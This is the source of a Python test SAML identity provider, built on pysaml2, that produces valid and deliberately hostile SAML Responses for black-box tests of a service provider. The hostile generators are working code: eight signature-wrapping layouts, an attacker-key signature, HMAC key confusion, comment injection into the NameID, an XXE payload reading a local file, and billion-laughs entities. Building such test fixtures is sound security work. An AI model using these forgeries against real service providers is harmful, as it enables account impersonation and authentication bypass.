#!/usr/bin/env python3
"""A small SAML 2.0 identity provider for Admit's black-box tests and local demo.

Admit is the service provider (SP). This IdP is built on pysaml2 (which signs
through the `xmlsec1` binary) and can be told, per sign-in, to answer with a
well-formed Response or with one of many hostile ones, so the tests can check
that the SP accepts the first and refuses every other.

    python3 tests/idp/saml_idp.py --port N [--base-url URL]

serves HTTP on 127.0.0.1:N; the base URL defaults to http://127.0.0.1:N.
Entity id = {base}/metadata, SSO (HTTP-Redirect) = {base}/sso/redirect.
Ready when `GET /metadata` answers 200. It exits on SIGTERM, and when the
process that started it goes away (its parent process id changes). Keys are
made fresh at every start (an RSA-2048 signing key and an "attacker" key, each
with a self-signed certificate) in a temporary directory removed at exit.

Endpoints
  GET  /metadata        the IdP metadata (pysaml2-generated).
  GET  /certificate     the signing certificate, PEM.
  GET  /sso/redirect    SAMLRequest (+ RelayState) by HTTP-Redirect. The SP is
                        known by the request's Issuer, which must be the http(s)
                        URL of its metadata on 127.0.0.1 or localhost: fetched
                        once, checked against the SAML 2.0 metadata schema,
                        loaded into pysaml2. Answers a login page (form POST
                        /login with a hidden `key`, `email`, `groups`, "Sign in").
  POST /login           key, email and the options below: a Response to the
                        stored request (each request can be answered any number
                        of times, for replay tests).
  POST /idp-initiated   sp (SP entity id), email, relay_state and the options
                        below: an unsolicited Response (no InResponseTo).

  Both POSTs answer, with `Accept: application/json`,
      {"acs": URL, "SAMLResponse": base64, "RelayState": str|null, "xml": str}
  and otherwise an HTML page that auto-posts SAMLResponse/RelayState to the ACS.

Options (form fields)
  sign             assertion (default) | response | both
  name_id_format   email (default) | persistent ("p-" + 16 hex of sha256(email))
  email_attribute  Name of the attribute carrying the email (default "email");
                   "none" for no email attribute. An attribute `name` (the part
                   of the email before "@") is always sent.
  groups           comma-separated group names: one attribute (named by
                   groups_attribute) with one AttributeValue per name. Absent
                   or empty: no groups attribute at all.
  groups_attribute Name of that attribute (default "groups"), e.g. Entra ID's
                   http://schemas.microsoft.com/ws/2008/06/identity/claims/groups
  attack, victim   a hostile variant (400 for an unknown one):
    xsw1..xsw8       SAML Raider's signature-wrapping layouts (xsw1/2 sign the
                     Response, xsw3..8 the Assertion); needs victim
    unsigned         signed as asked, then every ds:Signature removed
    attacker_key     the victim's Response signed by another key (its cert in KeyInfo)
    rsa_sha1         signed with rsa-sha1 / sha1 digests
    hmac             the victim's Response "signed" hmac-sha1 keyed by the IdP cert PEM
    comment          email "victim@x<!---->.rest" after signing (email must
                     start with victim); the signature stays valid
    wrong_audience, wrong_recipient, wrong_destination (signs both),
    wrong_issuer, unknown_in_response_to, no_in_response_to, not_yet_valid,
    expired, status_failure (signs both): set before signing, so valid
    xxe, billion_laughs  a DOCTYPE with entities, used in the email value
    oversized        a signed 600 KiB `padding` attribute

Needs: pip packages pysaml2 and lxml (cryptography comes with pysaml2), and
the xmlsec1 binary (Debian package xmlsec1).
"""

import argparse
import base64
import copy
import datetime
import hashlib
import hmac
import html
import json
import os
import secrets
import shutil
import signal
import sys
import tempfile
import threading
import time
import urllib.parse
import urllib.request
import warnings
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# pysaml2 imports a cipher mode that newer `cryptography` deprecates: keep stderr for real news.
warnings.filterwarnings("ignore", module=r"saml2(\..*)?$")

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree

from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT, saml, samlp
from saml2.config import IdPConfig
from saml2.metadata import entity_descriptor
from saml2.s_utils import decode_base64_and_inflate, sid
from saml2.saml import NAMEID_FORMAT_EMAILADDRESS, NAMEID_FORMAT_PERSISTENT
from saml2.server import Server
from saml2.sigver import class_name, pre_signature_part
from saml2.time_util import instant
from saml2.xmldsig import DIGEST_SHA1, DIGEST_SHA256, SIG_RSA_SHA1, SIG_RSA_SHA256

try:
    from saml2.xml.schema import XMLSchemaError
    from saml2.xml.schema import validate as schema_validate
except ImportError:  # older pysaml2 without the bundled XSDs
    schema_validate = None
    XMLSchemaError = Exception

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "md": "urn:oasis:names:tc:SAML:2.0:metadata",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
DS = "{%s}" % NS["ds"]
SIG_HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
STATUS_RESPONDER = "urn:oasis:names:tc:SAML:2.0:status:Responder"
STATUS_AUTHN_FAILED = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"
AUTHN_CONTEXT = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
BAD = "http://127.0.0.1:1"  # a URL that is nobody's


class Refused(Exception):
    """A request the IdP answers with 400 and this plain-text reason."""


# --------------------------------------------------------------------------
# Keys and certificates
# --------------------------------------------------------------------------


def make_key_and_cert(directory, stem, common_name):
    """An RSA-2048 key and a self-signed certificate, written as PEM files."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=3650))
        .sign(key, hashes.SHA256())
    )
    key_file = os.path.join(directory, stem + ".key")
    cert_file = os.path.join(directory, stem + ".crt")
    with open(key_file, "wb") as f:
        f.write(
            key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.TraditionalOpenSSL,
                serialization.NoEncryption(),
            )
        )
    cert_pem = cert.public_bytes(serialization.Encoding.PEM)
    with open(cert_file, "wb") as f:
        f.write(cert_pem)
    return key_file, cert_file, cert_pem


def pem_body(pem):
    """The base64 body of a PEM certificate, as KeyInfo wants it."""
    lines = pem.decode().strip().splitlines()
    return "".join(line for line in lines if not line.startswith("-----"))


# --------------------------------------------------------------------------
# Time helpers
# --------------------------------------------------------------------------


def at(seconds):
    """An xs:dateTime `seconds` from now (UTC, whole seconds, trailing Z)."""
    return instant(time_stamp=int(time.time()) + seconds)


# --------------------------------------------------------------------------
# The IdP
# --------------------------------------------------------------------------


class IdP:
    def __init__(self, base_url, workdir):
        self.base = base_url.rstrip("/")
        self.entity_id = self.base + "/metadata"
        self.sso_url = self.base + "/sso/redirect"
        self.key_file, self.cert_file, self.cert_pem = make_key_and_cert(workdir, "idp", "Admit test IdP")
        self.evil_key_file, self.evil_cert_file, self.evil_cert_pem = make_key_and_cert(
            workdir, "attacker", "Admit test IdP"
        )
        xmlsec = shutil.which("xmlsec1")
        if not xmlsec:
            sys.exit("saml_idp.py: the xmlsec1 binary is needed (Debian package xmlsec1)")
        config = IdPConfig()
        config.load(
            {
                "entityid": self.entity_id,
                "name": "Admit test IdP",
                "service": {
                    "idp": {
                        "endpoints": {"single_sign_on_service": [(self.sso_url, BINDING_HTTP_REDIRECT)]},
                        "want_authn_requests_signed": False,
                        "name_id_format": [NAMEID_FORMAT_EMAILADDRESS, NAMEID_FORMAT_PERSISTENT],
                        "policy": {"default": {"lifetime": {"minutes": 5}}},
                    }
                },
                "key_file": self.key_file,
                "cert_file": self.cert_file,
                "xmlsec_binary": xmlsec,
                "metadata": {},
                "signing_algorithm": SIG_RSA_SHA256,
                "digest_algorithm": DIGEST_SHA256,
                "accepted_time_diff": 60,
            }
        )
        self.server = Server(config=config)
        descriptor = entity_descriptor(config)
        # pysaml2 lists every algorithm xmlsec1 knows (md5, dsa-sha1, ...) in an
        # alg:* Extensions block; an SP needs none of it.
        descriptor.extensions = None
        self.metadata_xml = b'<?xml version="1.0" encoding="UTF-8"?>\n' + str(descriptor).encode()
        self.known_sps = {}  # entity id -> ACS URL (HTTP-POST)
        self.requests = {}  # key -> stored AuthnRequest facts
        self.lock = threading.Lock()  # pysaml2's Server is not thread-safe

    # -- the SP --------------------------------------------------------------

    def know_sp(self, entity_id):
        """Fetch, schema-check and load the SP's metadata once; its ACS URL."""
        with self.lock:
            if entity_id in self.known_sps:
                return self.known_sps[entity_id]
        url = urllib.parse.urlsplit(entity_id or "")
        if url.scheme not in ("http", "https") or url.hostname not in ("127.0.0.1", "localhost"):
            raise Refused(f"the SP entity id must be an http(s) URL on 127.0.0.1 or localhost, not {entity_id!r}")
        try:
            with urllib.request.urlopen(entity_id, timeout=10) as answer:
                xml = answer.read()
        except Exception as e:
            raise Refused(f"could not fetch the SP metadata from {entity_id}: {e}") from e
        check_metadata_schema(xml)
        root = etree.fromstring(xml, etree.XMLParser(resolve_entities=False, no_network=True))
        if root.tag != "{%s}EntityDescriptor" % NS["md"] or root.get("entityID") != entity_id:
            raise Refused(f"the SP metadata at {entity_id} is not an EntityDescriptor with entityID={entity_id}")
        with self.lock:
            self.server.metadata.load("inline", xml.decode())
            acs = self.server.metadata.assertion_consumer_service(entity_id, BINDING_HTTP_POST)
            if not acs:
                raise Refused(f"the SP metadata at {entity_id} has no HTTP-POST AssertionConsumerService")
            self.known_sps[entity_id] = acs[0]["location"]
            return self.known_sps[entity_id]

    # -- the AuthnRequest ----------------------------------------------------

    def receive_request(self, saml_request, relay_state):
        try:
            request = samlp.authn_request_from_string(decode_base64_and_inflate(saml_request))
        except Exception as e:
            raise Refused(f"SAMLRequest is not a deflated, base64 AuthnRequest: {e}") from e
        if request is None or request.issuer is None or not request.issuer.text:
            raise Refused("the AuthnRequest has no Issuer")
        sp = request.issuer.text.strip()
        self.know_sp(sp)
        with self.lock:
            try:
                parsed = self.server.parse_authn_request(saml_request, BINDING_HTTP_REDIRECT)
            except Exception as e:
                raise Refused(f"pysaml2 refused the AuthnRequest: {type(e).__name__}: {e}") from e
            if parsed is None:
                raise Refused("pysaml2 refused the AuthnRequest")
            message = parsed.message
            # The ACS URL must be one of the SP's (pysaml2 checks it against the metadata).
            try:
                args = self.server.response_args(message, [BINDING_HTTP_POST])
            except Exception as e:
                raise Refused(f"no usable AssertionConsumerService for this request: {e}") from e
        key = secrets.token_urlsafe(16)
        self.requests[key] = {
            "id": message.id,
            "sp": sp,
            "acs": message.assertion_consumer_service_url or args["destination"],
            "relay_state": relay_state,
        }
        return key

    # -- the Response --------------------------------------------------------

    def respond(self, form, key=None):
        """Build the answer to /login (key given) or /idp-initiated (form["sp"])."""
        if key is not None:
            stored = self.requests.get(key)
            if stored is None:
                raise Refused("unknown key: no such AuthnRequest")
            sp, acs, in_response_to, relay_state = stored["sp"], stored["acs"], stored["id"], stored["relay_state"]
        else:
            sp = form.get("sp")
            if not sp:
                raise Refused("sp (the SP entity id) is required")
            acs = self.know_sp(sp)
            in_response_to, relay_state = None, form.get("relay_state")
        options = Options(form)
        xml = build(self, options, sp, acs, in_response_to)
        return {
            "acs": acs,
            "SAMLResponse": base64.b64encode(xml).decode(),
            "RelayState": relay_state,
            "xml": xml.decode("utf-8"),
        }

    def sign(self, xml, elements, key_file=None):
        """Sign each (class name, ID) in order with xmlsec1, through pysaml2: the
        algorithms are those of the Signature templates already in place."""
        for node_name, node_id in elements:
            with self.lock:
                xml = self.server.sec.sign_statement(xml, node_name, key_file=key_file or self.key_file, node_id=node_id)
        return xml


def check_metadata_schema(xml):
    """Validate SP metadata against the SAML 2.0 metadata XSD bundled with pysaml2."""
    if schema_validate is None:
        raise Refused("SP metadata is not schema-valid: this pysaml2 has no saml2.xml.schema to check it with")
    try:
        schema_validate(xml.decode("utf-8") if isinstance(xml, bytes) else xml)
    except (XMLSchemaError, UnicodeDecodeError) as e:
        cause = e.__cause__ or e
        reason = getattr(cause, "reason", None) or str(cause).strip().splitlines()[0]
        path = getattr(cause, "path", None)
        raise Refused(f"SP metadata is not schema-valid: {reason}" + (f" (at {path})" if path else "")) from e


# --------------------------------------------------------------------------
# Options of one sign-in
# --------------------------------------------------------------------------

ATTACKS = (
    ["xsw%d" % n for n in range(1, 9)]
    + ["unsigned", "attacker_key", "rsa_sha1", "hmac", "comment"]
    + ["wrong_audience", "wrong_recipient", "wrong_destination", "wrong_issuer"]
    + ["unknown_in_response_to", "no_in_response_to", "not_yet_valid", "expired", "status_failure"]
    + ["xxe", "billion_laughs", "oversized"]
)
# Attacks that need the evil content: the victim's email.
NEED_VICTIM = {"xsw%d" % n for n in range(1, 9)} | {"attacker_key", "hmac", "comment"}
# Attacks that decide what is signed.
FORCED_SIGN = {
    "xsw1": "response",
    "xsw2": "response",
    **{"xsw%d" % n: "assertion" for n in range(3, 9)},
    "wrong_destination": "both",
    "status_failure": "both",
}


class Options:
    def __init__(self, form):
        self.email = (form.get("email") or "").strip()
        if not self.email or "@" not in self.email:
            raise Refused("email is required (an address with @)")
        self.attack = form.get("attack") or None
        if self.attack is not None and self.attack not in ATTACKS:
            raise Refused(f"unknown attack {self.attack!r}; known: {', '.join(ATTACKS)}")
        self.sign = FORCED_SIGN.get(self.attack) or form.get("sign") or "assertion"
        if self.sign not in ("assertion", "response", "both"):
            raise Refused("sign must be assertion, response or both")
        self.name_id_format = form.get("name_id_format") or "email"
        if self.name_id_format not in ("email", "persistent"):
            raise Refused("name_id_format must be email or persistent")
        self.email_attribute = form.get("email_attribute") or "email"
        if self.email_attribute == "none":
            self.email_attribute = None
        self.groups_attribute = form.get("groups_attribute") or "groups"
        self.groups = [g.strip() for g in (form.get("groups") or "").split(",") if g.strip()]
        self.victim = (form.get("victim") or "").strip() or None
        if self.attack in NEED_VICTIM and not self.victim:
            raise Refused(f"attack {self.attack} needs victim (an email)")
        if self.attack == "comment" and (not self.email.startswith(self.victim) or self.email == self.victim):
            raise Refused("attack comment needs an email that starts with the victim and is longer")
        if self.attack in ("xxe", "billion_laughs") and self.email_attribute is None:
            raise Refused(f"attack {self.attack} puts its entity in the email attribute: it cannot be none")

    @property
    def signs_assertion(self):
        return self.sign in ("assertion", "both")

    @property
    def signs_response(self):
        return self.sign in ("response", "both")


def name_id_for(email, name_id_format):
    if name_id_format == "persistent":
        value = "p-" + hashlib.sha256(email.lower().encode()).hexdigest()[:16]
        return saml.NameID(format=NAMEID_FORMAT_PERSISTENT, text=value)
    return saml.NameID(format=NAMEID_FORMAT_EMAILADDRESS, text=email)


def attribute(name, *values):
    """An attribute with one AttributeValue per value."""
    name_format = saml.NAME_FORMAT_URI if ":" in name else saml.NAME_FORMAT_BASIC
    return saml.Attribute(
        name=name,
        name_format=name_format,
        attribute_value=[saml.AttributeValue(text=value) for value in values],
    )


# --------------------------------------------------------------------------
# Building a Response: pysaml2 builds it unsigned, the pre-signing attacks set
# their values on pysaml2's objects, pysaml2/xmlsec1 sign it, and the
# post-signing attacks mutate the signed XML with lxml.
# --------------------------------------------------------------------------


def build(idp, o, sp, acs, in_response_to):
    email = o.email
    if o.attack in ("attacker_key", "hmac"):
        email = o.victim  # a forged Response for the victim, as a whole

    identity_attributes = []
    if o.email_attribute:
        identity_attributes.append(attribute(o.email_attribute, email))
    identity_attributes.append(attribute("name", email.split("@", 1)[0]))
    if o.groups:
        identity_attributes.append(attribute(o.groups_attribute, *o.groups))
    if o.attack == "oversized":
        identity_attributes.append(attribute("padding", "x" * (600 * 1024)))

    with idp.lock:
        response = idp.server.create_authn_response(
            identity={},
            in_response_to=in_response_to,
            destination=acs,
            sp_entity_id=sp,
            name_id=name_id_for(email, o.name_id_format),
            authn={"class_ref": AUTHN_CONTEXT, "authn_auth": idp.entity_id},
            sign_response=False,
            sign_assertion=False,
        )
    assertion = response.assertion
    assertion.attribute_statement = [saml.AttributeStatement(attribute=identity_attributes)]
    set_standard_values(response, acs, sp, in_response_to)
    pre_signing_attack(response, o.attack)

    sign_alg, digest_alg = SIG_RSA_SHA256, DIGEST_SHA256
    if o.attack == "rsa_sha1":
        sign_alg, digest_alg = SIG_RSA_SHA1, DIGEST_SHA1
    cert_pem, key_file = idp.cert_pem, idp.key_file
    if o.attack == "attacker_key":
        cert_pem, key_file = idp.evil_cert_pem, idp.evil_key_file

    if o.attack == "hmac":
        return attack_hmac(response, o, idp.cert_pem)

    to_sign = []
    if o.signs_assertion:
        assertion.signature = pre_signature_part(assertion.id, pem_body(cert_pem), None, digest_alg, sign_alg)
        to_sign.append((class_name(assertion), assertion.id))
    if o.signs_response:
        response.signature = pre_signature_part(response.id, pem_body(cert_pem), None, digest_alg, sign_alg)
        to_sign.append((class_name(response), response.id))
    signed = idp.sign(str(response), to_sign, key_file=key_file)

    root = etree.fromstring(signed.encode("utf-8"), etree.XMLParser(remove_blank_text=False, huge_tree=True))
    doctype = None
    if o.attack and o.attack.startswith("xsw"):
        XSW[o.attack](root, Evil(o))
    elif o.attack == "unsigned":
        attack_unsigned(root)
    elif o.attack == "comment":
        attack_comment(root, o)
    elif o.attack in ("xxe", "billion_laughs"):
        doctype = attack_entities(root, o)
    return serialize(root, doctype)


def serialize(root, doctype=None):
    body = etree.tostring(root, encoding="UTF-8", xml_declaration=False, doctype=doctype)
    return b'<?xml version="1.0" encoding="UTF-8"?>\n' + body


def set_standard_values(response, acs, sp, in_response_to):
    """The values every Response carries, whatever pysaml2's defaults are."""
    assertion = response.assertion
    response.destination = acs
    response.in_response_to = in_response_to
    assertion.issue_instant = response.issue_instant
    confirmation = assertion.subject.subject_confirmation[0]
    confirmation.method = saml.SCM_BEARER
    data = confirmation.subject_confirmation_data
    data.recipient = acs
    data.in_response_to = in_response_to
    data.not_on_or_after = at(300)
    data.not_before = None
    conditions = assertion.conditions
    conditions.not_before = at(-60)
    conditions.not_on_or_after = at(300)
    conditions.audience_restriction = [saml.AudienceRestriction(audience=[saml.Audience(text=sp)])]
    for statement in assertion.authn_statement:
        statement.authn_instant = response.issue_instant


# --------------------------------------------------------------------------
# Attacks whose values are set before signing: the signatures are valid.
# --------------------------------------------------------------------------


def pre_signing_attack(response, attack):
    assertion = response.assertion
    data = assertion.subject.subject_confirmation[0].subject_confirmation_data
    conditions = assertion.conditions
    if attack == "wrong_audience":
        conditions.audience_restriction[0].audience[0].text = BAD + "/not-the-sp"
    elif attack == "wrong_recipient":
        data.recipient = BAD + "/acs"
    elif attack == "wrong_destination":
        response.destination = BAD + "/acs"
    elif attack == "wrong_issuer":
        response.issuer.text = BAD + "/other-idp"
        assertion.issuer.text = BAD + "/other-idp"
    elif attack == "unknown_in_response_to":
        fresh = sid()
        response.in_response_to = fresh
        data.in_response_to = fresh
    elif attack == "no_in_response_to":
        response.in_response_to = None
        data.in_response_to = None
    elif attack == "not_yet_valid":
        conditions.not_before = at(3600)
        data.not_before = at(3600)
    elif attack == "expired":
        response.issue_instant = at(-7200)
        assertion.issue_instant = at(-7200)
        for statement in assertion.authn_statement:
            statement.authn_instant = at(-7200)
        conditions.not_before = at(-3 * 3600)
        conditions.not_on_or_after = at(-3600)
        data.not_on_or_after = at(-3600)
    elif attack == "status_failure":
        response.status = samlp.Status(
            status_code=samlp.StatusCode(
                value=STATUS_RESPONDER,
                status_code=samlp.StatusCode(value=STATUS_AUTHN_FAILED),
            )
        )


# --------------------------------------------------------------------------
# XML Signature Wrapping, exactly as SAML Raider (XSWHelpers.applyXSW1..8)
# builds them, after "On Breaking SAML: Be Whoever You Want to Be"
# (Somorovsky et al., 2012). In each, the "evil" element carries the victim
# in its NameID and email attribute, and a new random ID (SAML Raider uses
# the fixed "_evil_response_ID"/"_evil_assertion_ID"; in XSW7/XSW8 it keeps
# the original ID on both copies, and in XSW1/XSW2 both Responses hold an
# Assertion with the same ID: here the evil element, and the Assertion of the
# evil Response, get new IDs, so that no document carries a duplicate ID). The untouched original keeps
# the signed ID, so the original signature still covers it.
# --------------------------------------------------------------------------


class Evil:
    """Turns an element into the evil copy: victim's NameID/email, new ID."""

    def __init__(self, o):
        self.victim = o.victim
        self.email_attribute = o.email_attribute

    def content(self, element):
        for name_id in element.iterfind(".//saml:Subject/saml:NameID", NS):
            name_id.text = self.victim
            break
        if self.email_attribute:
            for attr in element.iterfind(".//saml:Attribute", NS):
                if attr.get("Name") == self.email_attribute:
                    for value in attr.iterfind("saml:AttributeValue", NS):
                        value.text = self.victim
                    break

    def new_id(self, element):
        element.set("ID", sid())

    def new_ids(self, response):
        """XSW1/XSW2 clone the whole Response, Assertion included: the evil
        Response's Assertion gets a new ID too, so no ID appears twice."""
        self.new_id(response)
        for assertion in response.iterfind("saml:Assertion", NS):
            self.new_id(assertion)


def first(element, path):
    found = element.find(path, NS)
    if found is None:
        raise Refused(f"XSW: no {path} in the signed response")
    return found


def first_signature(element):
    """DOM getElementsByTagNameNS("*", "Signature").item(0): document order."""
    return next(element.iter(DS + "Signature"))


def without_signature(element):
    """A deep copy with its first (own) Signature removed."""
    clone = copy.deepcopy(element)
    signature = first_signature(clone)
    signature.getparent().remove(signature)
    return clone


def xsw1(response, evil):
    # XSW1 (signed Response). The root Response becomes the evil one (new ID,
    # victim content); a copy of the original Response, less its Signature, is
    # appended as the last child of the root's Signature:
    #   Response ID=evil            <- evil content, processed
    #     Issuer
    #     Signature (Reference #orig)
    #       SignedInfo, SignatureValue, KeyInfo
    #       Response ID=orig        <- the original, what was signed
    #     Status, Assertion (evil)
    clone = without_signature(response)
    evil.content(response)
    first_signature(response).append(clone)
    evil.new_ids(response)


def xsw2(response, evil):
    # XSW2 (signed Response). As XSW1, but the copy of the original Response
    # (less its Signature) is inserted just before the Signature, as a sibling
    # (a detached signature):
    #   Response ID=evil            <- evil content, processed
    #     Issuer
    #     Response ID=orig          <- the original, what was signed
    #     Signature (Reference #orig)
    #     Status, Assertion (evil)
    clone = without_signature(response)
    evil.content(response)
    signature = first_signature(response)
    signature.addprevious(clone)
    evil.new_ids(response)


def xsw3(response, evil):
    # XSW3 (signed Assertion). An evil copy of the Assertion (new ID, no
    # Signature) is inserted before the original, as its preceding sibling:
    #   Response
    #     Issuer, Status
    #     Assertion ID=evil         <- evil content, unsigned
    #     Assertion ID=orig         <- the original, signed
    #       Issuer, Signature (Reference #orig), Subject, ...
    assertion = first(response, "saml:Assertion")
    evil_assertion = copy.deepcopy(assertion)
    evil.content(evil_assertion)
    evil.new_id(evil_assertion)
    evil_assertion.remove(first_signature(evil_assertion))
    assertion.addprevious(evil_assertion)


def xsw4(response, evil):
    # XSW4 (signed Assertion). The evil copy (new ID, no Signature) is appended
    # to the Response, and the original Assertion is moved inside it, as its
    # last child:
    #   Response
    #     Issuer, Status
    #     Assertion ID=evil         <- evil content, unsigned
    #       Issuer, Subject, Conditions, AuthnStatement, AttributeStatement
    #       Assertion ID=orig       <- the original, signed
    assertion = first(response, "saml:Assertion")
    evil_assertion = copy.deepcopy(assertion)
    evil.content(evil_assertion)
    evil.new_id(evil_assertion)
    evil_assertion.remove(first_signature(evil_assertion))
    response.append(evil_assertion)
    evil_assertion.append(assertion)


def xsw5(response, evil):
    # XSW5 (signed Assertion). The Assertion in place becomes the evil one (new
    # ID, victim content) and keeps the Signature; a copy of the original,
    # less its Signature, is appended as the last child of the Response:
    #   Response
    #     Issuer, Status
    #     Assertion ID=evil         <- evil content
    #       Issuer, Signature (Reference #orig), Subject, ...
    #     Assertion ID=orig         <- the original, what was signed
    evil_assertion = first(response, "saml:Assertion")
    original = without_signature(evil_assertion)
    evil.content(evil_assertion)
    response.append(original)
    evil.new_id(evil_assertion)


def xsw6(response, evil):
    # XSW6 (signed Assertion). The Assertion in place becomes the evil one (new
    # ID, victim content); a copy of the original, less its Signature, is
    # appended as the last child of that Signature:
    #   Response
    #     Issuer, Status
    #     Assertion ID=evil         <- evil content
    #       Issuer
    #       Signature (Reference #orig)
    #         SignedInfo, SignatureValue, KeyInfo
    #         Assertion ID=orig     <- the original, what was signed
    #       Subject, ...
    evil_assertion = first(response, "saml:Assertion")
    signature = first_signature(evil_assertion)
    original = without_signature(evil_assertion)
    evil.content(evil_assertion)
    signature.append(original)
    evil.new_id(evil_assertion)


def xsw7(response, evil):
    # XSW7 (signed Assertion). An element `Extensions` (no namespace, as SAML
    # Raider's createElement makes it) is inserted before the Assertion and
    # holds an evil copy of it, less its Signature; the original stays signed
    # in place:
    #   Response
    #     Issuer, Status
    #     Extensions
    #       Assertion ID=evil       <- evil content, unsigned
    #     Assertion ID=orig         <- the original, signed
    assertion = first(response, "saml:Assertion")
    extensions = etree.Element("Extensions")
    assertion.addprevious(extensions)
    evil_assertion = copy.deepcopy(assertion)
    evil.content(evil_assertion)
    evil.new_id(evil_assertion)  # SAML Raider keeps the original ID here
    evil_assertion.remove(first_signature(evil_assertion))
    extensions.append(evil_assertion)


def xsw8(response, evil):
    # XSW8 (signed Assertion). The Assertion in place becomes the evil one
    # (victim content) and keeps the Signature; an element `Object` (no
    # namespace, as SAML Raider makes it) is appended to that Signature and
    # holds a copy of the original, less its Signature:
    #   Response
    #     Issuer, Status
    #     Assertion ID=evil         <- evil content
    #       Issuer
    #       Signature (Reference #orig)
    #         SignedInfo, SignatureValue, KeyInfo
    #         Object
    #           Assertion ID=orig   <- the original, what was signed
    #       Subject, ...
    evil_assertion = first(response, "saml:Assertion")
    signature = first_signature(evil_assertion)
    original = without_signature(evil_assertion)
    evil.content(evil_assertion)
    obj = etree.SubElement(signature, "Object")
    obj.append(original)
    evil.new_id(evil_assertion)  # SAML Raider keeps the original ID here


XSW = {f"xsw{n}": f for n, f in enumerate([xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8], start=1)}


# --------------------------------------------------------------------------
# Attacks on the signature itself
# --------------------------------------------------------------------------


def attack_unsigned(root):
    """Signed as asked, then every ds:Signature removed."""
    for signature in list(root.iter(DS + "Signature")):
        signature.getparent().remove(signature)


def attack_hmac(response, o, cert_pem):
    """HMAC-SHA1 "signatures" keyed with the IdP's certificate PEM (the
    public-key-as-HMAC-secret confusion), over the victim's Response; built by
    hand with lxml's exclusive c14n, SHA-1 digests, enveloped + exc-c14n
    transforms applied as a verifier would."""
    assertion = response.assertion
    targets = []
    if o.signs_assertion:
        assertion.signature = pre_signature_part(assertion.id, pem_body(cert_pem), None, DIGEST_SHA1, SIG_HMAC_SHA1)
        targets.append(assertion.id)
    if o.signs_response:
        response.signature = pre_signature_part(response.id, pem_body(cert_pem), None, DIGEST_SHA1, SIG_HMAC_SHA1)
        targets.append(response.id)
    root = etree.fromstring(str(response).encode("utf-8"))
    for target_id in targets:  # the assertion first: the response's digest covers its signature
        element = root if root.get("ID") == target_id else root.find(f".//saml:Assertion[@ID='{target_id}']", NS)
        signature = element.find("ds:Signature", NS)
        # Enveloped-signature transform, then exclusive c14n (without comments).
        referenced = copy.deepcopy(element)
        referenced.remove(referenced.find("ds:Signature", NS))
        digest = hashlib.sha1(etree.tostring(referenced, method="c14n", exclusive=True, with_comments=False))
        signature.find("ds:SignedInfo/ds:Reference/ds:DigestValue", NS).text = base64.b64encode(
            digest.digest()
        ).decode()
        signed_info = etree.tostring(
            signature.find("ds:SignedInfo", NS), method="c14n", exclusive=True, with_comments=False
        )
        mac = hmac.new(cert_pem, signed_info, hashlib.sha1).digest()
        signature.find("ds:SignatureValue", NS).text = base64.b64encode(mac).decode()
    return serialize(root)


def attack_comment(root, o):
    """After signing, split the NameID and email values after the victim prefix
    with an empty comment: "victim@corp.test<!---->.evil.test". Exclusive c14n
    without comments drops it, so the signature stays valid; a SP that reads
    only the first text node sees the victim."""
    targets = [name_id for name_id in root.iterfind(".//saml:Subject/saml:NameID", NS)]
    if o.email_attribute:
        for attr in root.iterfind(".//saml:Attribute", NS):
            if attr.get("Name") == o.email_attribute:
                targets.extend(attr.iterfind("saml:AttributeValue", NS))
    for node in targets:
        text = node.text or ""
        if not text.startswith(o.victim):
            continue
        node.text = o.victim
        comment = etree.Comment("")
        comment.tail = text[len(o.victim) :]
        node.insert(0, comment)


def attack_entities(root, o):
    """xxe: an external entity (file:///etc/hostname) used in the email value.
    billion_laughs: ten levels of ten nested entities, &lol9; used there.
    The values change after signing: whatever a parser makes of them, the
    signature no longer matches; the point is what the parser does first."""
    if o.attack == "xxe":
        name = "xxe"
        subset = '<!ENTITY xxe SYSTEM "file:///etc/hostname">'
    else:
        name = "lol9"
        lines = ['<!ENTITY lol "lol">']
        for level in range(1, 10):
            lines.append(f'<!ENTITY lol{level} "{("&lol%s;" % (level - 1 or "")) * 10}">')
        subset = "\n  ".join(lines)
    for attr in root.iterfind(".//saml:Attribute", NS):
        if attr.get("Name") == o.email_attribute:
            value = attr.find("saml:AttributeValue", NS)
            value.text = None
            for child in list(value):
                value.remove(child)
            value.append(etree.Entity(name))
            break
    qname = root.prefix + ":" + etree.QName(root).localname if root.prefix else etree.QName(root).localname
    return f"<!DOCTYPE {qname} [\n  {subset}\n]>"


# --------------------------------------------------------------------------
# HTTP
# --------------------------------------------------------------------------

LOGIN_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>Test IdP: sign in</title></head>
<body>
<h1>Test IdP</h1>
<p>Signing in to {sp}</p>
<form method="post" action="/login">
<input type="hidden" name="key" value="{key}">
<label>Email <input type="text" name="email" autofocus></label>
<label>Groups <input type="text" name="groups" placeholder="comma-separated, optional"></label>
<button type="submit">Sign in</button>
</form>
</body></html>
"""

POST_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>Test IdP: back to the service</title></head>
<body>
<form method="post" action="{acs}">
<input type="hidden" name="SAMLResponse" value="{response}">
{relay}<noscript><button type="submit">Continue</button></noscript>
</form>
<script>document.forms[0].submit();</script>
</body></html>
"""


class Handler(BaseHTTPRequestHandler):
    idp = None  # set in main()
    server_version = "AdmitTestIdP/1"

    def log_message(self, fmt, *args):
        sys.stderr.write("saml_idp: %s %s\n" % (self.address_string(), fmt % args))

